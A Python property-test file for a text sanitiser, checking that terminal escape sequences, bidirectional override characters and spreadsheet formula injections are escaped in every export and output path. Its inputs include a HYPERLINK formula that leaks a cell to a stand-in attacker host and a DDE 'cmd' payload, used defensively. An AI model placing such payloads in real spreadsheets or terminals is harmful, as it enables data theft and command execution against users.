"""The one sanitiser (srtui.engine.textsafe) and a property test over every in-process output path."""

from __future__ import annotations

import io
import re

import pandas as pd
from hypothesis import given, settings
from hypothesis import strategies as st

from srtui.engine.textsafe import SafeStream, csv_cell, safe_row, safe_value, visible
from srtui.results.outputs.export import FORMATS, render_tables

#: what may never reach a terminal, a clipboard or a file raw (newline and tab are allowed)
CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")
ANY_TEXT = st.text(alphabet=st.characters(min_codepoint=0, max_codepoint=0x2FF), max_size=40)
RAW_BYTES = st.binary(max_size=40).map(lambda b: b.decode("utf-8", "replace"))


def test_every_control_character_is_shown_as_its_escape() -> None:
    assert visible("a\x1b]52;c;eA==\x1b\\b") == "a\\x1b]52;c;eA==\\x1b\\b"
    assert visible("\x9b2J\x7f\x00\x07") == "\\x9b2J\\x7f\\x00\\x07"
    assert visible("line\nnext\ttab") == "line\nnext\ttab"
    assert visible("line\nnext\ttab", one_line=True) == "line\\x0anext\\x09tab"
    assert visible("x0 + ½ ∑ ｘ") == "x0 + ½ ∑ ｘ"  # printable unicode untouched


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised() -> None:
    assert csv_cell('=HYPERLINK("http://evil.example/?"&A1,"click")').startswith("'=HYPERLINK")
    assert csv_cell("+cmd|' /C calc'!A0") == "'+cmd|' /C calc'!A0"
    for text in ("-x0 + 1", "@SUM(A1)", "\tx", "-", "+"):
        assert csv_cell(text).startswith("'"), text
    assert csv_cell("\rx").startswith("\\x0d")  # shown, so it starts with a backslash
    for number in ("-1.5", "+2", "-1e-3", "-inf", "-nan"):
        assert csv_cell(number) == number  # a number in text stays a number
    assert csv_cell(-1.5) == -1.5 and csv_cell(None) is None
    assert csv_cell("=1+1", raw=True) == "=1+1"
    assert csv_cell("=\x1b[2J", raw=True) == "=\\x1b[2J"  # --raw keeps formulas, never escapes


def test_export_keeps_numbers_numbers_and_neutralises_text() -> None:
    df = pd.DataFrame({"method": ["=cmd()", "ok"], "r2_test": [-1.5, 0.25], "model": ["-x0", "x0"]})
    out = render_tables({"runs": df}, "csv", "runs")
    rows = out.splitlines()
    assert "'=cmd(),-1.5,'-x0" in rows and "ok,0.25,x0" in rows
    raw = render_tables({"runs": df}, "csv", "runs", raw=True)
    assert "=cmd(),-1.5,-x0" in raw.splitlines()


def _paths(text: str) -> dict[str, str]:
    """``text`` through every in-process output path, as what each writes."""
    from srtui.app.widgets import cell

    df = pd.DataFrame({text or "c": [text, "x"], "r2_test": [-1.5, 2.0]})
    out = {f"export-{fmt}": render_tables({text: df}, fmt, text, {"o": text}) for fmt in FORMATS}
    buf = io.StringIO()
    SafeStream(buf).write(text)
    out["stdout"] = buf.getvalue()
    out["csv-cell"] = str(csv_cell(text))
    out["app-cell"] = cell(text).plain
    out["sqlite-row"] = "".join(map(str, safe_row(None, (text, 1, None))))
    out["json-value"] = repr(safe_value({"expression": text, "notes": [text]}))
    return out


@settings(max_examples=150, deadline=None)
@given(ANY_TEXT)
def test_no_control_character_survives_any_output_path(text: str) -> None:
    for path, written in _paths(text).items():
        assert not CONTROL.search(written), (path, text, written)


@settings(max_examples=100, deadline=None)
@given(RAW_BYTES)
def test_random_bytes_survive_no_output_path(text: str) -> None:
    for path, written in _paths(text).items():
        assert not CONTROL.search(written), (path, text, written)


def test_direction_controls_are_shown_as_text() -> None:
    """A right-to-left override (U+202E) or isolate would make a terminal, page or cell show a
    model in another order than it is: shown as ``\\u202e``."""
    from srtui.engine.textsafe import visible

    spoof = "c \u202e)1x(nis*9999 + \u2066x\u2069\u200f"
    shown = visible(spoof)
    assert shown == "c \\u202e)1x(nis*9999 + \\u2066x\\u2069\\u200f"
    assert visible("\u202e", one_line=True) == "\\u202e"
